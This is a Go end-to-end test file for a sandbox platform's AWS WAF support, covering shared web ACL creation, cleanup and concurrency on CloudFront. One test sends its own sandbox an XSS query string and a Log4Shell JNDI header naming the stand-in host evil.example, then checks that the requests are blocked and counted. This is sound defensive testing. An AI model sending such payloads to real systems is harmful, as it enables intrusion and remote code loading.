package e2e_test

import (
	"fmt"
	"maps"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudfront"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatch"
	cwtypes "github.com/aws/aws-sdk-go-v2/service/cloudwatch/types"
	"github.com/aws/aws-sdk-go-v2/service/wafv2"
	waftypes "github.com/aws/aws-sdk-go-v2/service/wafv2/types"

	"github.com/mayfly-dev/mayfly/events"
)

// webACL returns the installation's web ACL, and what the distribution of a
// sandbox has before it; both "" when there is none.
func (c *cloud) webACL(t *testing.T, box events.SandboxState) (there, used string) {
	t.Helper()
	list, err := wafv2.NewFromConfig(c.aws()).ListWebACLs(t.Context(), &wafv2.ListWebACLsInput{Scope: waftypes.ScopeCloudfront})
	if err != nil {
		t.Fatal(err)
	}
	for _, acl := range list.WebACLs {
		there += *acl.ARN
	}
	if box.DistributionID != "" {
		got, err := c.cloudfront().GetDistribution(t.Context(), &cloudfront.GetDistributionInput{Id: &box.DistributionID})
		if err != nil {
			t.Fatal(err)
		}
		used = *got.Distribution.DistributionConfig.WebACLId
	}
	return there, used
}

// TestOneWebACLForAllAndNoneForNobody: it is made for the first sandbox that
// asks, shared, and gone with the last, whether that goes or switches it off.
func TestOneWebACLForAllAndNoneForNobody(t *testing.T) {
	c := start(t, nil)
	before := c.inventory(t)
	plain := c.create(t, events.CreateSandbox{Name: "plain"})
	if there, used := c.webACL(t, plain); there != "" || used != "" {
		t.Fatalf("nobody asked for %q before %q", there, used)
	}
	first := c.create(t, events.CreateSandbox{Name: "first", WAF: true})
	there, used := c.webACL(t, first)
	if there == "" || used != there || !first.Spec.WAF {
		t.Fatalf("%q is there, %q before the distribution", there, used)
	}
	turn := func(name string, on bool) events.SandboxState {
		t.Helper()
		if err := c.api(t.Context(), "PATCH", "/v1/sandboxes/"+name, events.UpdateSandbox{WAF: &on}, nil); err != nil {
			t.Fatal(err)
		}
		box := c.await(t, name, events.PhaseReady)
		if box.Failure.Error != "" {
			t.Fatalf("WAF on %s: %v: %+v", name, on, box.Failure)
		}
		return box
	}
	if again, used := c.webACL(t, turn("plain", true)); again != there || used != there {
		t.Errorf("%q is there, %q before the second distribution", again, used)
	}
	c.remove(t, "first")
	if again, used := c.webACL(t, plain); again != there || used != there {
		t.Errorf("the first one is gone: %q is there, %q before the second distribution", again, used)
	}
	if left, used := c.webACL(t, turn("plain", false)); left != "" || used != "" {
		t.Errorf("all are off: %q is there, %q before the second distribution", left, used)
	}
	for _, wrong := range []events.CreateSandbox{{Name: "site", WAF: true, Delivery: events.DeliveryWebsite}, {Name: "site", WAF: true, Delivery: events.DeliveryNone}} {
		if err := c.api(t.Context(), "POST", "/v1/sandboxes", wrong, nil); status(err) != http.StatusBadRequest {
			t.Errorf("WAF with delivery %s: %v", wrong.Delivery, err)
		}
	}
	c.remove(t, "plain")
	if after := c.inventory(t); !maps.Equal(before, after) {
		t.Errorf("left behind: before %v, after %v", before, after)
	}
}

// TestAnAttackIsRefusedAndCounted: with WAF it gets 403, without it what there
// is, and CloudWatch has the counts.
func TestAnAttackIsRefusedAndCounted(t *testing.T) {
	c := start(t, nil)
	box := c.create(t, events.CreateSandbox{Name: "safe", WAF: true})
	c.release(t, "safe", site())
	const attack = "?q=%3Cscript%3Ealert(1)%3C/script%3E"
	c.shows(t, box.URL, "<h1>one</h1>")
	for range 3 {
		if status, header, body := c.get(t, box.URL+attack); status != http.StatusForbidden || header.Get("X-Cache") != "Error from cloudfront" || !strings.Contains(body, "Request blocked") {
			t.Errorf("an attack: %d %s", status, body)
		}
	}
	if status, _, _ := c.get(t, box.URL, "X-Api-Version", "${jndi:ldap://evil.example/a}"); status != http.StatusForbidden {
		t.Errorf("Log4j in a header: %d", status)
	}
	sum := func(metric, rule string) (total float64) {
		t.Helper()
		out, err := cloudwatch.NewFromConfig(c.aws()).GetMetricStatistics(t.Context(), &cloudwatch.GetMetricStatisticsInput{
			Namespace: aws.String("AWS/WAFV2"), MetricName: &metric, Period: aws.Int32(60), Statistics: []cwtypes.Statistic{cwtypes.StatisticSum},
			StartTime: aws.Time(time.Now().Add(-time.Hour)), EndTime: aws.Time(time.Now().Add(time.Hour)),
			Dimensions: []cwtypes.Dimension{{Name: aws.String("WebACL"), Value: aws.String("mayfly-local")}, {Name: aws.String("Rule"), Value: &rule}},
		})
		if err != nil {
			t.Fatal(err)
		}
		for _, point := range out.Datapoints {
			total += *point.Sum
		}
		return total
	}
	for rule, want := range map[string]float64{"ALL": 4, "AWSManagedRulesCommonRuleSet": 3, "AWSManagedRulesKnownBadInputsRuleSet": 1} {
		eventually(t, fmt.Sprintf("%s blocked %v requests", rule, want), func() (bool, error) { return sum("BlockedRequests", rule) == want, nil })
	}
	if sum("AllowedRequests", "ALL") == 0 {
		t.Error("no request was allowed")
	}
	off := false
	if err := c.api(t.Context(), "PATCH", "/v1/sandboxes/safe", events.UpdateSandbox{WAF: &off}, nil); err != nil {
		t.Fatal(err)
	}
	c.await(t, "safe", events.PhaseReady)
	if status, _, _ := c.get(t, box.URL+attack); status != http.StatusOK {
		t.Errorf("without WAF: %d", status)
	}
}

// TestTheWebACLIsSharedByManyAtOnce: who comes while the last one leaves makes
// it again, and in the end there is none.
func TestTheWebACLIsSharedByManyAtOnce(t *testing.T) {
	c := start(t, nil)
	before := c.inventory(t)
	const many, rounds = 4, 3
	var all sync.WaitGroup
	for i := range many {
		all.Go(func() {
			for round := range rounds {
				name := fmt.Sprintf("s%d-%d", i, round)
				box := c.create(t, events.CreateSandbox{Name: name, WAF: true, Repository: events.RepositorySpec{Visibility: events.VisibilityNone}})
				got, err := c.cloudfront().GetDistribution(t.Context(), &cloudfront.GetDistributionInput{Id: &box.DistributionID})
				if err != nil || aws.ToString(got.Distribution.DistributionConfig.WebACLId) == "" {
					t.Errorf("%s: %v", name, err)
				}
				c.remove(t, name)
			}
		})
	}
	all.Wait()
	if after := c.inventory(t); !maps.Equal(before, after) {
		t.Errorf("left behind: before %v, after %v", before, after)
	}
}
